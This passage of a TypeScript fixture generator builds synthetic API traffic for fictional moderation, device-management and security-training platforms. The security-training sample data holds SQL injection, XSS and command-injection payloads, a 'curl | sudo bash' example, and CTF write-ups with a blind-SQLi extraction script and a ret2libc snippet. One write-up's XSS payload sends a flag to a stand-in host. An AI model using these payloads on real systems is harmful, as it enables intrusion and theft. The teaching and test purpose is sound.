            locale: pick(['en_US', 'de_DE', 'es_AR', 'zh_CN']),
          },
        },
      ),
    () =>
      c(
        'rest-get',
        'GET',
        `/api/v1/queue?${qs({ status: pick(['open', 'escalated', 'snoozed']), 'priority[gte]': int(1, 3), queue: pick(['spam', 'harassment', 'minor-safety', 'es-latam']), sort: pick(['-created_at', 'sla_due', '-report_count']), limit: 25, cursor: b64(`{"id":${digits(9)},"ts":"${iso()}"}`) })}`,
        hdr(iss),
      ),
    () =>
      c('prose', 'POST', `/api/v1/queue/items/${uuid()}/decisions`, hdr(iss, 'application/json'), {
        action: pick(['remove', 'dismiss', 'escalate', 'restrict', 'suspend_7d']),
        policy: pick(['SPAM.1', 'HARASS.2b', 'SCAM.phishing', 'DOX.1']),
        moderator_note: pick(NOTES),
        quoted_content: pick(QUOTED),
        notify_user: rnd() < 0.7,
        user_message_template: pick(['removal_generic', 'spam_strike', 'none']),
      }),
    () =>
      c(
        'graphql',
        'POST',
        '/graphql',
        hdr(iss, 'application/json'),
        gql(
          'CaseDetail',
          'query CaseDetail($id: ID!, $withHistory: Boolean!) {\n  case(id: $id) {\n    id status priority\n    content { text mediaUrls author { handle createdAt strikeCount } }\n    reports(first: 10) { reason details reporter { trustScore } }\n    history @include(if: $withHistory) { action actor note at }\n  }\n}',
          { id: uuid(), withHistory: true },
        ),
      ),
    () =>
      c('rest-write', 'POST', '/api/v1/appeals', hdr(iss, 'application/json'), {
        decision_id: uuid(),
        text: pick([
          "I didn't post a scam!! My account was hacked on Oct 3, I already reset my password. Please restore my post about the bake sale.",
          'The word you flagged is a reclaimed term in our community, context matters. Please have a human review this.',
          "Je contestais simplement une information fausse, je n'ai insulté personne. Merci de revoir la décision.",
          '我只是分享了一个新闻链接，为什么被删除？请重新审核。',
          'This is satire. The account bio literally says "parody account (not affiliated)".',
        ]),
        attachments: rnd() < 0.3 ? [`https://media.trustsafety.example/appeals/${uuid()}.png`] : [],
      }),
    () => {
      const lines = Array.from({ length: int(3, 6) }, () =>
        JSON.stringify({
          item_id: uuid(),
          action: pick(['remove', 'dismiss']),
          policy: 'SPAM.1',
          note: pick(['bulk: cluster CL-88', 'same template', 'auto-confirmed by 2 mods']),
        }),
      );
      c(
        'ndjson',
        'POST',
        '/api/v1/queue/bulk-actions',
        hdr(iss, 'application/x-ndjson'),
        `${lines.join('\n')}\n`,
      );
    },
    () =>
      c('code', 'PUT', `/api/v1/automod/rules/${alnum(8)}`, hdr(iss, 'application/json'), {
        name: pick(['vbucks-scam', 'crypto-doubling', 'phone-number-spam', 'leetspeak-slur-variants']),
        enabled: true,
        match: {
          field: pick(['text', 'display_name', 'bio']),
          pattern: pick([
            '(?i)\\bfr[e3]{2}\\s*v[\\W_]*bucks?\\b',
            '(?i)(send|transfer)\\s+\\d+(\\.\\d+)?\\s*(btc|eth|usdt).{0,40}(double|2x|back)',
            '\\+?\\d{1,3}[\\s.-]?\\(?\\d{3}\\)?[\\s.-]?\\d{3}[\\s.-]?\\d{4}',
            '(?i)\\b(t\\.me|wa\\.me|bit\\.ly)/[A-Za-z0-9_]{3,}',
          ]),
          min_account_age_days: int(0, 30),
        },
        action: { type: pick(['hold_for_review', 'remove', 'shadow_limit']), reason: 'SPAM.1' },
        test_cases: [
          { input: pick(QUOTED), expect: true },
          { input: 'see you at the bake sale on Sat!', expect: false },
        ],
      }),
    () =>
      c(
        'cms-html',
        'PUT',
        `/api/v1/policies/${pick(['spam', 'harassment', 'scams'])}/public-page`,
        hdr(iss, 'application/json'),
        {
          locale: pick(['en', 'es', 'de']),
          body_html:
            '<h1>Spam and platform manipulation</h1><p>We don&rsquo;t allow content that is <strong>repetitive, unsolicited, or deceptive</strong>. Examples:</p><ul><li>Posting the same link in many replies (&ldquo;<code>free-vbux.top</code>&rdquo;)</li><li>Buying or selling followers</li></ul><p>See the <a href="/policies/enforcement#strikes">strike system</a>. <img src="/static/icons/info.svg" alt="" aria-hidden="true"></p>',
        },
      ),
    () => {
      const m = multipart([
        { name: 'case_id', value: uuid() },
        {
          name: 'note',
          value: pick([
            'Screenshot of the deleted DM thread (provided by reporter)',
            'Evidencia: captura de pantalla',
          ]),
        },
        {
          name: 'evidence',
          filename: pick(['Screenshot 2026-10-21 at 14.32.07.png', 'IMG_4412.PNG', 'captura (1).png']),
          type: 'image/png',
          value: `iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk${alnum(20)}AAAAASUVORK5CYII=`,
        },
      ]);
      c('multipart', 'POST', '/api/v1/evidence', hdr(iss, m.ct), m.body);
    },
    () =>
      c('merge-patch', 'PATCH', `/api/v1/queue/items/${uuid()}`, hdr(iss, 'application/merge-patch+json'), {
        assignee: pick([`mod_${alnum(6)}`, null]),
        priority: int(1, 4),
        labels: pick([['minor-safety'], ['spam', 'cluster:CL-88'], []]),
        snooze_until: rnd() < 0.3 ? iso() : null,
      }),
    () =>
      c('json-patch', 'PATCH', `/api/v1/cases/${uuid()}`, hdr(iss, 'application/json-patch+json'), [
        { op: 'add', path: '/notes/-', value: { author: `mod_${alnum(6)}`, text: pick(NOTES), at: iso() } },
        { op: 'replace', path: '/status', value: pick(['escalated', 'resolved']) },
      ]),
    () =>
      c(
        'search',
        'GET',
        `/api/v1/search/content?${qs({ q: pick(['"free v-bucks"', 'bit.ly/3xQ9z', 'from:@growfast_bot', 'Betrüger', '"link in bio" -verified', '注册送']), since: iso(), lang: pick(['any', 'en', 'de', 'es']), has: pick(['link', 'media', 'none']) })}`,
        hdr(iss),
      ),
    () => c('delete', 'DELETE', `/api/v1/automod/rules/${alnum(8)}`, hdr(iss)),
    () =>
      c('prose', 'POST', `/api/v1/cases/${uuid()}/comments`, hdr(iss, 'application/json'), {
        text: pick([
          '@lead can you take a look? Reporter quotes: "I know where you live (Elm St)" — counts as a threat under HARASS.3?',
          'FYI the link resolves to 185.220.101.4 which is a known Tor exit; not necessarily malicious on its own.',
          'Translated from Portuguese: "se você não pagar vou postar suas fotos" = "if you don\'t pay I\'ll post your photos" → sextortion, escalate to minor-safety if age < 18.',
          'Lo dejé en "snoozed" hasta que legal confirme. ¿Alguien sabe si el perfil es de una menor?',
          'Bulk action done: 412 items removed, 3 failed with "409 Conflict – already actioned". Ignoring.',
        ]),
      }),
  ];
  for (let i = 0; i < 56; i++) (T[i % T.length] as () => void)();
}

// ---------------------------------------------------------------------------------------------------------------
// 7. IT asset management / MDM
// ---------------------------------------------------------------------------------------------------------------
function mdmDomain(): void {
  const iss = 'https://login.assetfleet.example';
  const serial = (): string => `${pick(['C02', 'FVF', 'PF', '5CG'])}${alnum(8).toUpperCase()}`;
  const T: (() => void)[] = [
    () =>
      c(
        'rest-write',
        'POST',
        '/api/v2/devices/checkin',
        hdr(iss, 'application/json', {
          'user-agent': pick([
            'AssetFleetAgent/5.3.2 (Windows 11 23H2)',
            'AssetFleetAgent/5.3.2 (macOS 15.1)',
            'AssetFleetAgent/5.2.9 (Ubuntu 24.04)',
          ]),
        }),
        {
          serial: serial(),
          hostname: pick(['LT-FIN-0231', 'mbp-jweiss', 'ws-render-07.corp.example', 'KIOSK-LOBBY-2']),
          os: {
            name: pick(['Windows 11 Pro', 'macOS', 'Ubuntu']),
            version: pick(['10.0.22631.4460', '15.1.1 (24B91)', '24.04.1 LTS']),
          },
          logged_in_user: pick(['CORP\\j.weiss', 'maria.nunez', 'AzureAD\\TaroYamada', 'root']),
          disks: [
            {
              mount: pick(['C:\\', '/', '/System/Volumes/Data']),
              size_gb: pick([256, 512, 1024]),
              free_gb: int(12, 400),
              encrypted: rnd() < 0.9,
              method: pick(['BitLocker XTS-AES 128', 'FileVault 2', 'LUKS2']),
            },
          ],
          software: [
            {
              name: 'Google Chrome',
              version: '131.0.6778.86',
              path: pick([
                'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
                '/Applications/Google Chrome.app',
              ]),
            },
            {
              name: 'Microsoft 365 Apps',
              version: '16.0.18129.20116',
              path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\',
            },
            {
              name: pick(['Zoom Workplace', 'Slack', '7-Zip 24.08 (x64)']),
              version: `${int(5, 24)}.${int(0, 9)}.${int(0, 99)}`,
            },
          ],
          network: {
            ip: `10.${int(0, 40)}.${int(0, 255)}.${int(2, 254)}`,
            mac: Array.from({ length: 6 }, () => hex(2)).join(':'),
            ssid: pick(['CORP-WIFI', 'Guest', null]),
          },
          last_boot: iso(),
        },
      ),
    () =>
      c(
        'rest-get',
        'GET',
        `/api/v2/devices?${qs({ filter: pick(['os.version<14.2;compliance==false', 'model=="MacBookPro18,3",model=="MacBookPro18,4"', 'last_seen=lt=2026-10-01;department==Finance', 'disk.encrypted==false']), fields: 'serial,hostname,user,last_seen', sort: '-last_seen', 'page[size]': 100 })}`,
        hdr(iss),
      ),
    () =>
      c('code', 'POST', '/api/v2/scripts', hdr(iss, 'application/json'), {
        name: pick([
          'Clear Teams cache',
          'Check FileVault status',
          'Remove old Java',
          'Rotate local admin (LAPS fallback)',
        ]),
        platform: pick(['windows', 'macos', 'linux']),
        run_as: pick(['system', 'user']),
        timeout_s: int(60, 900),
        script: {
          source: pick([
            '#!/bin/bash\n# Report FileVault status to inventory\nstatus=$(fdesetup status | head -n1)\nif [[ "$status" != *"On"* ]]; then\n  echo "<result>Off</result>"\n  exit 1\nfi\necho "<result>On</result>"',
            "$ErrorActionPreference = 'Stop'\nGet-Process -Name 'ms-teams' -ErrorAction SilentlyContinue | Stop-Process -Force\n$cache = Join-Path $env:LOCALAPPDATA 'Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache'\nif (Test-Path $cache) { Remove-Item \"$cache\\*\" -Recurse -Force }\nWrite-Output \"Cleared $cache\"",
            '#!/bin/sh\nset -eu\nfor jdk in /Library/Java/JavaVirtualMachines/jdk1.8*.jdk; do\n  [ -d "$jdk" ] && rm -rf "$jdk" && echo "removed $jdk"\ndone\npkgutil --pkgs | grep -i \'com.oracle.jre\' | xargs -n1 sudo pkgutil --forget || true',
            "Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' |\n  Where-Object { $_.DisplayName -like '*Java*' -and $_.DisplayVersion -lt '8.0.4310' } |\n  ForEach-Object { Start-Process msiexec.exe -ArgumentList \"/x $($_.PSChildName) /qn /norestart\" -Wait }",
          ]),
        },
      }),
    () =>
      c(
        'rest-write',
        'POST',
        `/api/v2/devices/${serial()}/commands`,
        hdr(iss, 'application/json', { 'idempotency-key': uuid() }),
        {
          command: pick(['DeviceLock', 'RestartDevice', 'InstallProfile', 'EraseDevice', 'RunScript']),
          params: pick([
            { pin: digits(6), message: 'This Mac is locked by IT. Call +1 (515) 555-0199.' },
            { notify_user: true },
            {
              script_id: `scr_${alnum(8)}`,
              args: ['--quiet', '--log', 'C:\\ProgramData\\AssetFleet\\logs\\run.log'],
            },
            { preserve_data_plan: true },
          ]),
          reason: pick([
            'Reported stolen (ticket INC0091823)',
            'Patch Tuesday',
            'Offboarding – last day 2026-11-15',
          ]),
        },
      ),
    () =>
      c('prose', 'POST', `/api/v2/tickets/INC${digits(7)}/comments`, hdr(iss, 'application/json'), {
        body: pick([
          'Install failed again:\n```\nMsiInstaller Event 11708: Product: Zoom Workplace -- Installation failed.\nError 1603: Fatal error during installation. (0x80070643)\n```\nTried `msiexec /i ZoomInstallerFull.msi /qn /l*v C:\\Temp\\zoom.log`, log attached.',
          'User reports "The trust relationship between this workstation and the primary domain failed." Re-joined to domain; fixed.',
          "Enrollment stuck at 'Awaiting configuration'. `sudo profiles renew -type enrollment` returned: profiles: (-1) error: The device is not in an enrolled state.",
          'Laptop dropped, screen cracked (bottom-left). Loaner LT-LOAN-04 issued; RMA case #A1B2C3 w/ Dell, courier picks up Tue.',
          'Der Drucker im 3. OG zeigt "Fehler 49.4C02 – Service". Bitte Techniker beauftragen; Ausweichdrucker: \\\\printsrv02\\OG3-Farbe.',
          'Bitlocker recovery prompt after BIOS update 1.21.0 → used key 123456-…-654321 from portal. Suspend BitLocker before BIOS updates next time: `manage-bde -protectors -disable C: -RebootCount 1`',
        ]),
        internal: rnd() < 0.6,
      }),
    () =>
      c('jsonapi', 'POST', '/api/v3/assets', hdr(iss, 'application/vnd.api+json'), {
        data: {
          type: 'assets',
          attributes: {
            'asset-tag': `AT-${digits(6)}`,
            model: pick([
              'Dell Latitude 7450',
              'MacBook Air 15" (M3, 2024)',
              'Lenovo ThinkPad T14s Gen 5',
              'iPad (10th gen) 64GB',
            ]),
            'purchase-date': day(),
            'purchase-cost': { amount: fixed(399, 2899, 2), currency: 'USD' },
            'warranty-ends': day(),
            location: pick(['HQ / Floor 3 / Desk 3-114', 'Remote — Austin, TX', 'Storage room B (cage 2)']),
          },
          relationships: {
            assignee: { data: { type: 'users', id: `u_${alnum(8)}` } },
            vendor: { data: { type: 'vendors', id: pick(['cdw', 'insight', 'apple-biz']) } },
          },
        },
      }),
    () => {
      const plist = `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict>\n  <key>PayloadType</key><string>Configuration</string>\n  <key>PayloadIdentifier</key><string>com.example.wifi.${alnum(6)}</string>\n  <key>PayloadUUID</key><string>${uuid().toUpperCase()}</string>\n  <key>PayloadContent</key><array><dict>\n    <key>PayloadType</key><string>com.apple.wifi.managed</string>\n    <key>SSID_STR</key><string>CORP-WIFI</string>\n    <key>EncryptionType</key><string>WPA2</string>\n  </dict></array>\n</dict></plist>`;
      c('rest-write', 'POST', '/api/v2/profiles', hdr(iss, 'application/json'), {
        name: 'Corp Wi-Fi (802.1X)',
        scope: { groups: ['All Macs', 'Contractors'], exclusions: ['Kiosks'] },
        mobileconfig_b64: b64(plist),
      });
    },
    () => {
      const lines = Array.from({ length: int(3, 6) }, () =>
        JSON.stringify({
          serial: serial(),
          ts: isoMs(),
          event: pick(['app_installed', 'compliance_changed', 'usb_mass_storage', 'login']),
          detail: pick([
            {
              app: 'Visual Studio Code',
              path: 'C:\\Users\\jweiss\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
            },
            { compliant: false, rule: 'os_min_version' },
            { vendor_id: '0x0781', product: 'SanDisk Ultra' },
            { user: 'CORP\\m.nunez', method: 'smartcard' },
          ]),
        }),
      );
      c(
        'ndjson',
        'POST',
        '/api/v2/events:batch',
        hdr(iss, 'application/x-ndjson', { 'user-agent': 'AssetFleetAgent/5.3.2' }),
        `${lines.join('\n')}\n`,
      );
    },
    () =>
      c('merge-patch', 'PATCH', `/api/v2/devices/${serial()}`, hdr(iss, 'application/merge-patch+json'), {
        assigned_user: pick(['j.weiss@corp.example', null]),
        department: pick(['Finance', 'R&D', 'Sales – EMEA']),
        notes: pick([
          'Battery health 71% – replace at next refresh',
          'Has local admin exception (EXC-221, expires 2026-12-31)',
          null,
        ]),
        custom: { cost_center: `CC-${digits(4)}`, 'po#': `PO-${digits(6)}` },
      }),
    () => {
      const csv = `asset_tag,serial,model,user,location\n${Array.from({ length: 4 }, () => `AT-${digits(6)},${serial()},"${pick(['Dell Latitude 7450', 'MacBook Air 15""', 'ThinkPad T14s, Gen 5'])}",${pick(EMAILS)},"${pick(['HQ/3', 'Remote', 'Storage B'])}"`).join('\n')}\n`;
      const m = multipart([
        {
          name: 'file',
          filename: pick(['assets_import.csv', 'Q4 refresh (final v2).csv']),
          type: 'text/csv',
          value: csv,
        },
        { name: 'mode', value: pick(['upsert', 'create_only']) },
      ]);
      c('multipart', 'POST', '/api/v2/assets/import', hdr(iss, m.ct), m.body);
    },
    () =>
      c(
        'graphql',
        'POST',
        '/graphql',
        hdr(iss, 'application/json'),
        gql(
          'NonCompliant',
          'query NonCompliant($rule: String, $first: Int!) {\n  devices(where: { compliant: false, failedRule: $rule }, first: $first, orderBy: { lastSeen: DESC }) {\n    nodes { serial hostname user { email } lastSeen failedRules { id description } }\n  }\n}',
          { rule: pick(['os_min_version', 'disk_encryption', null]), first: 50 },
        ),
      ),
    () =>
      c(
        'form',
        'POST',
        '/mdm/checkin',
        { 'user-agent': 'MDM/1.0', 'content-type': 'application/x-www-form-urlencoded', accept: '*/*' },
        form({
          udid: uuid().toUpperCase(),
          topic: 'com.apple.mgmt.External.' + uuid(),
          token: b64(alnum(32)),
          push_magic: uuid().toUpperCase(),
          message_type: 'TokenUpdate',
        }),
      ),
    () =>
      c(
        'delete',
        'DELETE',
        `/api/v2/devices/${serial()}?${qs({ retire: true, wipe: false, reason: 'Disposed – certificate of destruction #CoD-2291' })}`,
        hdr(iss),
      ),
    () =>
      c(
        'search',
        'GET',
        `/api/v2/search?${qs({ q: pick(['C:\\Users\\*\\AppData\\Local\\Temp\\*.exe', 'hostname:LT-FIN-*', 'user:"o\'brien"', 'software:"Java 8 Update" version<431', 'mac:3c:22:fb:*']), scope: pick(['devices', 'software', 'files']) })}`,
        hdr(iss),
      ),
  ];
  for (let i = 0; i < 56; i++) (T[i % T.length] as () => void)();
}

// ---------------------------------------------------------------------------------------------------------------
// 8. Cybersecurity awareness-training & CTF platform
// ---------------------------------------------------------------------------------------------------------------
function ctfDomain(): void {
  const iss = 'https://auth.secacademy.example';
  const T: (() => void)[] = [
    () =>
      c(
        'cms-html',
        'PUT',
        `/api/v1/courses/${pick(['web-security-101', 'secure-coding-java', 'owasp-top-10-2025'])}/lessons/${int(1, 20)}`,
        hdr(iss, 'application/json'),
        {
          lesson: {
            title: pick([
              'SQL injection: how string concatenation goes wrong',
              'Cross-site scripting (XSS) 101',
              'OS command injection',
            ]),
            duration_min: int(5, 25),
            body_html: pick([
              "<h2>Why concatenation is dangerous</h2><p>Consider this login query built with string concatenation:</p><pre><code class=\"language-java\">String q = \"SELECT * FROM users WHERE name = '\" + name + \"' AND pw = '\" + pw + \"'\";</code></pre><p>If an attacker types <code>' OR '1'='1' --</code> as the name, the query becomes <code>SELECT * FROM users WHERE name = '' OR '1'='1' --' AND pw = ''</code> and returns every row.</p><p><strong>Fix:</strong> use a <code>PreparedStatement</code> with <code>?</code> placeholders.</p>",
              '<h2>Reflected XSS</h2><p>When a search page echoes the query unescaped, a link like <code>/search?q=&lt;script&gt;alert(document.cookie)&lt;/script&gt;</code> runs attacker script in the victim&rsquo;s session.</p><div class="callout callout-tip">Encode output for the context: HTML body, attribute, JavaScript, URL.</div><pre><code class="language-html">&lt;img src=x onerror="alert(1)"&gt;</code></pre>',
              '<h2>Command injection</h2><p>Passing user input to a shell, e.g. <code>exec("ping -c 4 " + host)</code>, lets an attacker send <code>8.8.8.8; cat /etc/passwd</code>. Prefer <code>execFile(\'ping\', [\'-c\', \'4\', host])</code> with an allow-list.</p><figure><img src="/media/diagrams/cmdi-flow.svg" alt="Data flow from input to shell"><figcaption>Figure 3. Untrusted input reaching <code>/bin/sh -c</code></figcaption></figure>',
            ]),
          },
        },
      ),
    () =>
      c(
        'rest-write',
        'POST',
        `/api/v1/quizzes/${alnum(8)}/questions`,
        hdr(iss, 'application/json'),
        pick([
          {
            prompt:
              'A login form builds its query by concatenating user input. Which username would log in as the first user without a password?',
            type: 'single-choice',
            options: ['admin', "' OR '1'='1' -- ", '<script>alert(1)</script>', '../../etc/passwd'],
            correct: 1,
            explanation:
              "The quote closes the string literal, OR '1'='1' makes the WHERE clause true, and -- comments out the password check.",
          },
          {
            prompt: 'Which of these is the safest way to show a user-supplied comment on a web page?',
            type: 'single-choice',
            options: [
              'element.innerHTML = comment',
              'element.textContent = comment',
              'document.write(comment)',
              'eval(comment)',
            ],
            correct: 1,
            explanation:
              'textContent never parses HTML, so a comment like <img src=x onerror=alert(1)> is shown as text.',
          },
          {
            prompt:
              'You receive an email: "Your mailbox is full. Click here to upgrade: http://micros0ft-mail.support/login". What should you do?',
            type: 'multi-choice',
            options: [
              'Click and log in quickly',
              'Report it with the Phish Alert button',
              'Forward to colleagues to warn them',
              'Check the sender domain and hover the link',
            ],
            correct: [1, 3],
            explanation:
              'The domain uses a zero instead of an "o". Never enter credentials from an email link.',
          },
          {
            prompt: 'What does the command `curl http://example.com/install.sh | sudo bash` risk?',
            type: 'free-text',
            rubric:
              'Mentions running unreviewed remote code as root; suggests downloading, verifying checksum/signature, then running.',
          },
        ]),
      ),
    () =>
      c(
        'rest-write',
        'POST',
        `/api/v1/challenges/${pick(['web-200-blind-notes', 'pwn-100-echo', 'crypto-300-rsa-oops', 'forensics-150-pcap'])}/submissions`,
        hdr(iss, 'application/json'),
        {
          flag: `${pick(['CTF', 'SECA', 'flag'])}{${pick(['bl1nd_b00l3an_FTW', 'f0rm4t_str1ng_%p', 'sm4ll_e_b1g_0ops', 'dns_3xf1l_1s_sn34ky', 'n0_m0re_s3cr3ts'])}_${hex(6)}}`,
          team_id: `team_${alnum(6)}`,
        },
      ),
    () =>
      c('code', 'PUT', `/api/v1/writeups/${uuid()}`, hdr(iss, 'application/json'), {
        writeup: {
          challenge: pick(['web-200-blind-notes', 'pwn-100-echo']),
          visibility: pick(['team', 'public-after-ctf']),
          content_md: pick([
            "## Blind Notes (web 200)\n\nThe `/api/notes?sort=` parameter was injected straight into `ORDER BY`. Boolean-based blind:\n\n```\n/api/notes?sort=(CASE WHEN (SELECT substr(flag,1,1) FROM secrets)='C' THEN title ELSE id END)\n```\n\nScripted it with python, ~40 requests per char:\n\n```python\nfor c in string.printable:\n    r = s.get(URL, params={'sort': f\"(CASE WHEN (SELECT substr(flag,{i},1) FROM secrets)='{c}' THEN title ELSE id END)\"})\n    if r.json()[0]['title'] == 'aaa': flag += c; break\n```\n\nFix: whitelist sort columns.",
            "## echo (pwn 100)\n\n`printf(buf)` → format string. Leaked canary with `%15$p`, libc with `%21$p`, then ret2libc:\n\n```python\nfrom pwn import *\np = remote('echo.ctf.secacademy.example', 31337)\np.sendline(b'%15$p.%21$p')\ncanary, leak = [int(x, 16) for x in p.recvline().split(b'.')]\nlibc.address = leak - 0x29d90\npayload = b'A'*72 + p64(canary) + b'B'*8 + p64(rop.ret.address) + p64(libc.sym.system)\n```\n\nGot shell → `cat /home/ctf/flag.txt`.",
            "## XSS challenge (web 150)\n\nThe CSP allowed `'unsafe-inline'` only for `/static`. The bio field was reflected into an attribute, so `\" autofocus onfocus=\"fetch('/flag').then(r=>r.text()).then(t=>location='//my.server/?'+t)` worked once the admin bot visited the profile.\n\nLesson: encode for the attribute context, and don't rely on CSP alone.",
          ]),
        },
      }),
    () =>
      c('prose', 'POST', `/api/v1/forum/threads/${digits(5)}/posts`, hdr(iss, 'application/json'), {
        body: pick([
          'stuck on web-200 :( I tried `\' OR 1=1--` on the login but it just says "invalid characters". Is it even SQLi or am I barking up the wrong tree?',
          'Hint for anyone on forensics-150: filter DNS in Wireshark (`dns.qry.name contains "exfil"`) and look at the subdomain lengths 👀',
          'Is it normal that `nc echo.ctf.secacademy.example 31337` times out? Works from my VPS but not from the uni network (port blocked?)',
          'The phishing module was great, our finance team actually reported the fake invoice email this time 🎉 Went from 34% click rate to 9%.',
          "Question about the XSS lesson: why does <img src=x onerror=...> fire but <script> injected via innerHTML doesn't?",
          "Bonjour, le module 4 ne charge pas (erreur 500 après le quiz). Quelqu'un d'autre ?",
          'For the pwn one, remember ASLR is on — leak first. `checksec ./echo` says: Canary found, NX enabled, PIE enabled.',
        ]),
      }),
    () =>
      c('cms-html', 'POST', '/api/v1/phishing/templates', hdr(iss, 'application/json'), {
        template: {
          name: pick(['Fake DocuSign – Q4 bonus', 'IT password expiry', 'Parcel delivery failed (DHL)']),
          sender: {
            name: pick(['DocuSign', 'IT Service Desk', 'DHL Express']),
            address: pick([
              'dse@docusign-notify.secacademy-sim.example',
              'it-support@corp-helpdesk.secacademy-sim.example',
            ]),
          },
          subject: pick([
            'Please review: 2026 Q4 Bonus Letter',
            'Your password expires in 24 hours',
            'Zustellung fehlgeschlagen – Paket #DE8812',
          ]),
          body_html:
            '<div style="font-family:Segoe UI,Arial"><p>Hello {{.FirstName}},</p><p>Your password for <b>{{.Email}}</b> expires in <span style="color:#c00">24 hours</span>.</p><p><a href="{{.URL}}" style="background:#0078d4;color:#fff;padding:8px 14px;text-decoration:none">Keep current password</a></p><p style="font-size:11px;color:#888">IT Service Desk &middot; Do not reply</p>{{.Tracker}}</div>',
          landing_page_id: `lp_${alnum(6)}`,
        },
      }),
    () =>
      c(
        'rest-write',
        'PUT',
        `/api/v1/challenges/${pick(['web-200-blind-notes', 'misc-50-shell-golf'])}`,
        hdr(iss, 'application/json'),
        {
          challenge: {
            points: pick([50, 100, 200, 300]),
            category: pick(['web', 'misc', 'pwn']),
            description_md: pick([
              'Our intern built a note-taking app. It only lets you sort notes... what could go wrong?\n\n`http://blind-notes.ctf.secacademy.example:8080`\n\n> Flag format: `CTF{...}`',
              'Print the flag using as few characters as possible. The flag is in `/flag`, but `cat`, `less` and `more` are blocked. Allowed: `[a-z$(){}<>|;&*?/ ]`.',
            ]),
            hints: [
              {
                cost: 25,
                text: pick([
                  'What does ORDER BY accept besides a column name?',
                  'Globbing: /???? matches /flag',
                ]),
              },
            ],
            files: [{ name: pick(['app.zip', 'echo', 'capture.pcapng']), sha256: hex(64) }],
          },
        },
      ),
    () =>
      c(
        'code',
        'POST',
        `/api/v1/labs/${pick(['secure-coding-java', 'secure-coding-node'])}/attempts`,
        hdr(iss, 'application/json'),
        {
          exercise: pick(['fix-sqli-1', 'fix-xss-2', 'fix-cmdi-1']),
          submission: {
            language: pick(['java', 'javascript']),
            code: pick([
              'public User find(String name) throws SQLException {\n  try (PreparedStatement ps = conn.prepareStatement("SELECT id, name FROM users WHERE name = ?")) {\n    ps.setString(1, name);\n    try (ResultSet rs = ps.executeQuery()) { return rs.next() ? map(rs) : null; }\n  }\n}',
              "app.get('/greet', (req, res) => {\n  const name = String(req.query.name ?? '');\n  res.type('html').send(`<p>Hello ${escapeHtml(name)}</p>`);\n});",
              "const { execFile } = require('node:child_process');\nfunction ping(host) {\n  if (!/^[a-z0-9.-]{1,253}$/i.test(host)) throw new Error('bad host');\n  return new Promise((ok, fail) => execFile('ping', ['-c', '4', host], (e, out) => (e ? fail(e) : ok(out))));\n}",
            ]),
          },
        },
      ),
    () =>
      c(
        'rest-get',
        'GET',
        `/api/v1/ctf/${pick(['fall-2026', 'intern-ctf'])}/scoreboard?${qs({ bracket: pick(['open', 'students']), limit: 50, around_team: `team_${alnum(6)}` })}`,
        hdr(iss),
      ),
    () =>
      c(
        'graphql',
        'POST',
        '/graphql',
        hdr(iss, 'application/json'),
        gql(
          'LearnerProgress',
          'query LearnerProgress($orgId: ID!, $course: String!, $after: String) {\n  org(id: $orgId) {\n    learners(first: 100, after: $after, filter: { course: $course, status: [NOT_STARTED, IN_PROGRESS] }) {\n      edges { node { email department progressPct lastActivityAt phishingClickRate } }\n      pageInfo { endCursor hasNextPage }\n    }\n  }\n}',
          { orgId: `org_${alnum(6)}`, course: 'owasp-top-10-2025', after: null },
        ),
      ),
    () => {
      const lines = Array.from({ length: int(3, 6) }, () =>
        JSON.stringify({
          campaign: `cmp_${alnum(6)}`,
          recipient: pick(EMAILS),
          event: pick(['sent', 'opened', 'clicked', 'submitted_data', 'reported']),
          ts: isoMs(),
          ua: pick(UAS),
          ip: `${int(11, 223)}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`,
        }),
      );
      c(
        'ndjson',
        'POST',
        '/api/v1/phishing/events',
        hdr(iss, 'application/x-ndjson'),
        `${lines.join('\n')}\n`,
      );
    },
    () => {
      const m = multipart([
        { name: 'challenge', value: 'forensics-150-pcap' },
        {
          name: 'writeup',
          filename: pick(['writeup.md', 'solve.py']),
          type: 'text/plain',
          value: pick([
            '# solve\ntshark -r capture.pcapng -Y \'dns.qry.name contains "exfil"\' -T fields -e dns.qry.name | cut -d. -f1 | xxd -r -p > out.bin\nfile out.bin  # Zip archive data',
            "import base64\nparts = [l.split('.')[0] for l in open('names.txt')]\nprint(base64.b32decode(''.join(parts).upper() + '===='))",
          ]),
        },
      ]);
      c('multipart', 'POST', '/api/v1/writeups/upload', hdr(iss, m.ct), m.body);
    },
    () =>
      c(
        'search',
        'GET',
        `/api/v1/search?${qs({ q: pick(['sql injection', 'XSS <script>', 'reverse shell', 'path traversal ../', 'phishing "gift card"', 'log4j jndi']), type: pick(['lessons', 'forum', 'challenges']), lang: pick(['en', 'de', 'fr']) })}`,
        hdr(iss),
      ),
    () =>
      c('merge-patch', 'PATCH', `/api/v1/users/me/settings`, hdr(iss, 'application/merge-patch+json'), {
        display_name: pick(['n0_s4nity', 'Tomás Ó F.', 'r00t_b33r', 'mallory (red team)', "l'hacker"]),
        bio: pick(['CTF player, blue-teamer by day. 🐧', 'Pentester @ acme | OSCP | ☕', null]),
        email_digest: pick(['weekly', 'off']),
      }),
    () => c('delete', 'DELETE', `/api/v1/forum/posts/${digits(6)}`, hdr(iss)),
  ];
  for (let i = 0; i < 56; i++) (T[i % T.length] as () => void)();
}

// ---------------------------------------------------------------------------------------------------------------
// Attacks
// ---------------------------------------------------------------------------------------------------------------

/** An endpoint an attack is aimed at: how to nest a value into its JSON body, and a GET form with a parameter. */
interface Target {
  readonly method: string;
  readonly path: string;
  readonly iss: string;
  readonly ct?: string;
  readonly build: (v: unknown) => unknown;
  readonly get: (encoded: string) => string;
}

const ISS = {
  maps: 'https://auth.geoplat.example',
  hotel: 'https://id.staybridge-pms.example',
  agri: 'https://login.fieldwise.example',
  trials: 'https://sso.trialrx.example',
  lib: 'https://accounts.citylibrary.example',
  mod: 'https://auth.trustsafety.example',
  mdm: 'https://login.assetfleet.example',
  ctf: 'https://auth.secacademy.example',
};

const GENERIC: readonly Target[] = [
  {
    method: 'POST',
